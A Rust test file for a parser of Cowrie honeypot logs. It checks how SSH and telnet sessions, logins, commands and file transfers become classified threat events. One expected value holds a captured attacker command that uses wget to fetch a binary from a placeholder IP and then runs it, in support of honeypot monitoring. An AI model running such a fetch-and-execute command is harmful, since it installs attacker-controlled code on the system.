//! The Cowrie parser against a hand-written log in Cowrie's own format
//! (`tests/data/cowrie/cowrie.json`: three sessions, ssh and telnet, IPv4 and IPv6, every
//! event id the parser maps plus bookkeeping ones, and malformed lines at the end).

use firewatch_core::{Collected, Event, Location, ParseSummary};
use firewatch_feeds::cowrie::{self, CowrieOptions};
use serde_json::{Value as Json, json};

const LOG: &str = include_str!("data/cowrie/cowrie.json");
const FILE: &str = "tests/data/cowrie/cowrie.json";

fn parse_with(options: &CowrieOptions) -> (ParseSummary, Collected) {
    let mut sink = Collected::default();
    let summary = cowrie::parse(LOG.as_bytes(), FILE, options, &mut sink).unwrap();
    (summary, sink)
}

/// The 1-based line `n` of the sample and its byte offset.
fn line(n: u64) -> (&'static str, u64) {
    let mut byte = 0;
    for (i, text) in LOG.split_inclusive('\n').enumerate() {
        if i as u64 + 1 == n {
            return (text.trim_end_matches('\n'), byte);
        }
        byte += text.len() as u64;
    }
    panic!("no line {n}");
}

fn base64_of(text: &str) -> Json {
    let mut event = Event::new();
    event.set("raw", text).unwrap();
    event.get("raw").unwrap().to_json()
}

/// The event from line `n` with `raw` checked against that line and removed.
fn event_at(sink: &Collected, n: u64) -> Json {
    let (text, byte) = line(n);
    let (event, location) = sink
        .events
        .iter()
        .find(|(_, at)| at.line == n)
        .unwrap_or_else(|| panic!("no event from line {n}"));
    assert_eq!(location, &Location::new(FILE, n, byte));
    let mut json = event.to_json_value();
    let raw = json.as_object_mut().unwrap().remove("raw").unwrap();
    assert_eq!(raw, base64_of(text), "line {n}: raw");
    json
}

#[test]
fn counts_every_line() {
    let (summary, sink) = parse_with(&CowrieOptions::default());
    assert_eq!(
        summary,
        ParseSummary {
            records: 32,
            events: 15,
            rejected: 5
        }
    );
    assert_eq!(sink.events.len(), 15);
    let lines: Vec<u64> = sink.events.iter().map(|(_, at)| at.line).collect();
    assert_eq!(
        lines,
        [1, 4, 5, 6, 9, 10, 11, 15, 16, 17, 18, 21, 23, 24, 32]
    );
}

#[test]
fn connect_is_a_scanner_event() {
    let (_, sink) = parse_with(&CowrieOptions::default());
    assert_eq!(
        event_at(&sink, 1),
        json!({
            "classification.identifier": "cowrie.session.connect",
            "classification.taxonomy": "information-gathering",
            "classification.type": "scanner",
            "destination.ip": "198.51.100.10",
            "destination.port": 22,
            "extra.sensor": "hp-fra-01",
            "extra.session": "a3f9c1e07b2d",
            "feed.name": "Cowrie",
            "protocol.application": "ssh",
            "protocol.transport": "tcp",
            "source.ip": "203.0.113.45",
            "source.port": 51022,
            "time.source": "2024-05-14T08:12:03.412893+00:00",
        })
    );
}

#[test]
fn logins_are_brute_force_with_session_details_and_no_password() {
    let (_, sink) = parse_with(&CowrieOptions::default());
    let expected = |id: &str, user: &str, time: &str| {
        json!({
            "classification.identifier": id,
            "classification.taxonomy": "intrusion-attempts",
            "classification.type": "brute-force",
            "destination.ip": "198.51.100.10",
            "destination.port": 22,
            "extra.client_version": "SSH-2.0-Go",
            "extra.sensor": "hp-fra-01",
            "extra.session": "a3f9c1e07b2d",
            "extra.username": user,
            "feed.name": "Cowrie",
            "protocol.application": "ssh",
            "protocol.transport": "tcp",
            "source.ip": "203.0.113.45",
            "source.port": 51022,
            "time.source": time,
        })
    };
    assert_eq!(
        event_at(&sink, 4),
        expected(
            "cowrie.login.failed",
            "root",
            "2024-05-14T08:12:05.102377+00:00"
        )
    );
    assert_eq!(
        event_at(&sink, 6),
        expected(
            "cowrie.login.success",
            "root",
            "2024-05-14T08:12:08.003941+00:00"
        )
    );
    assert!(
        sink.events
            .iter()
            .all(|(event, _)| !event.contains("extra.password"))
    );
}

#[test]
fn telnet_over_ipv6() {
    let (_, sink) = parse_with(&CowrieOptions::default());
    assert_eq!(
        event_at(&sink, 17),
        json!({
            "classification.identifier": "cowrie.login.success",
            "classification.taxonomy": "intrusion-attempts",
            "classification.type": "brute-force",
            "destination.ip": "2001:db8:ffff::10",
            "destination.port": 23,
            "extra.sensor": "hp-fra-01",
            "extra.session": "5e8d2b6f1c0a",
            "extra.username": "support",
            "feed.name": "Cowrie",
            "protocol.application": "telnet",
            "protocol.transport": "tcp",
            "source.ip": "2001:db8:77::5",
            "source.port": 40412,
            "time.source": "2024-05-14T09:40:55.874421+00:00",
        })
    );
}

#[test]
fn commands_are_system_compromise() {
    let (_, sink) = parse_with(&CowrieOptions::default());
    assert_eq!(
        event_at(&sink, 10),
        json!({
            "classification.identifier": "cowrie.command.input",
            "classification.taxonomy": "intrusions",
            "classification.type": "system-compromise",
            "destination.ip": "198.51.100.10",
            "destination.port": 22,
            "extra.client_version": "SSH-2.0-Go",
            "extra.command": "cd /tmp; wget http://192.0.2.66/bins/x86; chmod +x x86; ./x86 ssh",
            "extra.sensor": "hp-fra-01",
            "extra.session": "a3f9c1e07b2d",
            "feed.name": "Cowrie",
            "protocol.application": "ssh",
            "protocol.transport": "tcp",
            "source.ip": "203.0.113.45",
            "source.port": 51022,
            "time.source": "2024-05-14T08:12:11.044816+00:00",
        })
    );
}

#[test]
fn downloads_and_uploads_are_malware_distribution() {
    let (_, sink) = parse_with(&CowrieOptions::default());
    assert_eq!(
        event_at(&sink, 11),
        json!({
            "classification.identifier": "cowrie.session.file_download",
            "classification.taxonomy": "malicious-code",
            "classification.type": "malware-distribution",
            "destination.ip": "198.51.100.10",
            "destination.port": 22,
            "extra.client_version": "SSH-2.0-Go",
            "extra.sensor": "hp-fra-01",
            "extra.session": "a3f9c1e07b2d",
            "feed.name": "Cowrie",
            "malware.hash.sha256": "683af9ee0ea25c3976d82286571e36556ce417d1655068a5460a917f117491ed",
            "protocol.application": "ssh",
            "protocol.transport": "tcp",
            "source.ip": "203.0.113.45",
            "source.port": 51022,
            "source.url": "http://192.0.2.66/bins/x86",
            "time.source": "2024-05-14T08:12:12.773090+00:00",
        })
    );
    assert_eq!(
        event_at(&sink, 24),
        json!({
            "classification.identifier": "cowrie.session.file_upload",
            "classification.taxonomy": "malicious-code",
            "classification.type": "malware-distribution",
            "destination.ip": "198.51.100.10",
            "destination.port": 2222,
            "extra.client_version": "SSH-2.0-libssh2_1.9.0",
            "extra.filename": "dropper.sh",
            "extra.sensor": "hp-fra-01",
            "extra.session": "c71e4a9d3b58",
            "feed.name": "Cowrie",
            "malware.hash.sha256": "a86f2d5a6220c01cf7b79b6f6ecf694fc264b83efa7f160c61a8902b8997e6c5",
            "protocol.application": "ssh",
            "protocol.transport": "tcp",
            "source.ip": "192.0.2.201",
            "source.port": 60311,
            "time.source": "2024-05-14T11:02:20.447819+00:00",
        })
    );
}

#[test]
fn a_session_without_its_connect_line_has_no_destination() {
    let (_, sink) = parse_with(&CowrieOptions::default());
    assert_eq!(
        event_at(&sink, 32),
        json!({
            "classification.identifier": "cowrie.login.failed",
            "classification.taxonomy": "intrusion-attempts",
            "classification.type": "brute-force",
            "extra.sensor": "hp-fra-01",
            "extra.session": "9d9d9d9d9d9d",
            "extra.username": "pi",
            "feed.name": "Cowrie",
            "protocol.transport": "tcp",
            "source.ip": "192.0.2.99",
            "time.source": "2024-05-14T12:00:03+00:00",
        })
    );
}

#[test]
fn malformed_lines_are_rejected_with_their_location() {
    let (_, sink) = parse_with(&CowrieOptions::default());
    let got: Vec<(u64, u64, &str)> = sink
        .errors
        .iter()
        .map(|e| (e.location.line, e.location.byte, e.reason.as_str()))
        .collect();
    let at = |n| line(n).1;
    assert_eq!(
        got,
        [
            (
                28,
                at(28),
                "not valid JSON: EOF while parsing a string at line 1 column 200"
            ),
            (29, at(29), "not a JSON object"),
            (30, at(30), "has no eventid"),
            (
                31,
                at(31),
                r#"source.ip: "203.0.113.999" is not a valid IP address"#
            ),
            (
                33,
                at(33),
                r#"time.source: "not a time" is not a valid date-time"#
            ),
        ]
    );
    assert!(sink.errors[0].to_string().starts_with(&format!(
        "tests/data/cowrie/cowrie.json: line 28 (byte {}): not valid JSON",
        at(28)
    )));
}

#[test]
fn passwords_are_kept_only_when_asked_and_the_feed_name_is_configurable() {
    let options = CowrieOptions {
        feed_name: "Honeypot FRA".to_owned(),
        keep_passwords: true,
    };
    let (_, sink) = parse_with(&options);
    let json = event_at(&sink, 5);
    assert_eq!(json["extra.password"], "admin");
    assert_eq!(json["feed.name"], "Honeypot FRA");
    let passwords = sink
        .events
        .iter()
        .filter(|(event, _)| event.contains("extra.password"))
        .count();
    assert_eq!(passwords, 7);
}

#[test]
fn ignored_event_ids_yield_nothing() {
    let (_, sink) = parse_with(&CowrieOptions::default());
    for n in [2, 3, 7, 8, 12, 13, 14, 19, 20, 22, 25, 26] {
        assert!(sink.events.iter().all(|(_, at)| at.line != n), "line {n}");
        assert!(sink.errors.iter().all(|e| e.location.line != n), "line {n}");
        let id = serde_json::from_str::<Json>(line(n).0).unwrap()["eventid"]
            .as_str()
            .unwrap()
            .to_owned();
        assert!(
            cowrie::IGNORED_EVENT_IDS.contains(&id.as_str()),
            "{id} should be listed"
        );
    }
}

#[test]
fn crlf_bom_invalid_utf8_and_missing_keys() {
    let mut input = b"\xEF\xBB\xBF".to_vec();
    input.extend_from_slice(
        br#"{"eventid":"cowrie.login.failed","username":"root","src_ip":"192.0.2.5","session":"s1","timestamp":"2024-05-14T08:00:00Z"}"#,
    );
    input.extend_from_slice(b"\r\n\xff\xfe\n");
    input.extend_from_slice(br#"{"eventid":"cowrie.login.failed","src_ip":"192.0.2.5"}"#);
    input.extend_from_slice(b"\n");
    input.extend_from_slice(
        br#"{"eventid":"cowrie.command.input","timestamp":"2024-05-14T08:00:00Z"}"#,
    );
    input.extend_from_slice(b"\n");
    input.extend_from_slice(br#"{"eventid":7}"#);
    let mut sink = Collected::default();
    let summary =
        cowrie::parse(&input[..], "x.json", &CowrieOptions::default(), &mut sink).unwrap();
    assert_eq!(
        (summary.records, summary.events, summary.rejected),
        (5, 1, 4)
    );
    let event = &sink.events[0].0;
    assert_eq!(
        event.get("extra.username").unwrap().to_json(),
        json!("root")
    );
    // raw is the line without its line break and byte-order mark.
    assert_eq!(
        event.get("raw").unwrap().to_json(),
        base64_of(
            std::str::from_utf8(&input[3..input.iter().position(|&b| b == b'\r').unwrap()])
                .unwrap()
        )
    );
    let errors: Vec<String> = sink.errors.iter().map(ToString::to_string).collect();
    assert_eq!(
        errors,
        [
            "x.json: line 2 (byte 127): line is not valid UTF-8",
            "x.json: line 3 (byte 130): has no timestamp",
            "x.json: line 4 (byte 185): has no src_ip",
            "x.json: line 5 (byte 255): eventid: 7 is not a string",
        ]
    );
}

#[test]
fn empty_input() {
    let mut sink = Collected::default();
    let summary = cowrie::parse(&b""[..], "empty", &CowrieOptions::default(), &mut sink).unwrap();
    assert_eq!(summary, ParseSummary::default());
}
